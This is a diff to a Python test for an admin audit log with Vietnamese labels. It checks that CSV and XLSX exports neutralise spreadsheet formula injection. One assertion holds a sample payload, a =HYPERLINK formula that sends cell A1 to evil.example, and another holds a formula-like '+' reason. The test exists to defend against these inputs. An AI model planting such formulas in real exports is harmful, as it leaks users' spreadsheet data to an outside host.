@@ -120,15 +120,16 @@ def test_audit_log_filters_and_formula_safe_exports(app, client, factory):
     tomorrow = today + timedelta(days=1)
     assert "0 dòng" in client.get(f"/admin/audit?action=unit.update&date_from={tomorrow}").get_data(as_text=True)
     # the log can only grow: the login above is there too, newest first
-    assert "auth.login" in client.get("/admin/audit?user=quantri").get_data(as_text=True)
+    assert ">Đăng nhập<" in client.get("/admin/audit?user=quantri").get_data(as_text=True)
     raw = client.get("/admin/audit/export.csv?action=unit.update").get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff"))))
-    assert rows[0][:5] == ["id", "Thời điểm (UTC)", "Người thực hiện", "Vai trò", "Hành động"]
-    assert rows[1][4:6] == ["unit.update", "Sửa đơn vị"] and rows[1][2] == "quantri"
-    assert rows[1][11] == "'+sửa tên"  # a formula-looking reason is quoted in CSV
-    assert rows[1][10].startswith('{"name": "=HYPERLINK')  # JSON text: starts with "{", harmless
+    assert rows[0][:5] == ["Số dòng nhật ký", "Thời điểm (giờ Hà Nội, UTC+7)", "Người thực hiện", "Vai trò", "Hành động"]
+    assert rows[1][2:6] == ["quantri", "Quản trị", "Sửa đơn vị", f"Đơn vị số {ward.id}"]  # as the page shows them
+    assert rows[1][9] == 'Tên: =HYPERLINK("http://evil.example/?"&A1,"x")'  # starts with the field's name: harmless
+    assert rows[1][10] == "'+sửa tên"  # a formula-looking reason is quoted in CSV
+    assert rows[1][13].startswith('{"name": "=HYPERLINK')  # the recorded JSON: starts with "{", harmless
     ws = openpyxl.load_workbook(io.BytesIO(client.get("/admin/audit/export.xlsx?action=unit.update").data)).active
-    assert ws.cell(row=2, column=12).value == "+sửa tên" and ws.cell(row=2, column=12).data_type == "s"
+    assert ws.cell(row=2, column=11).value == "+sửa tên" and ws.cell(row=2, column=11).data_type == "s"
     assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog).where(AuditLog.action == "unit.update")) == 1
 
 
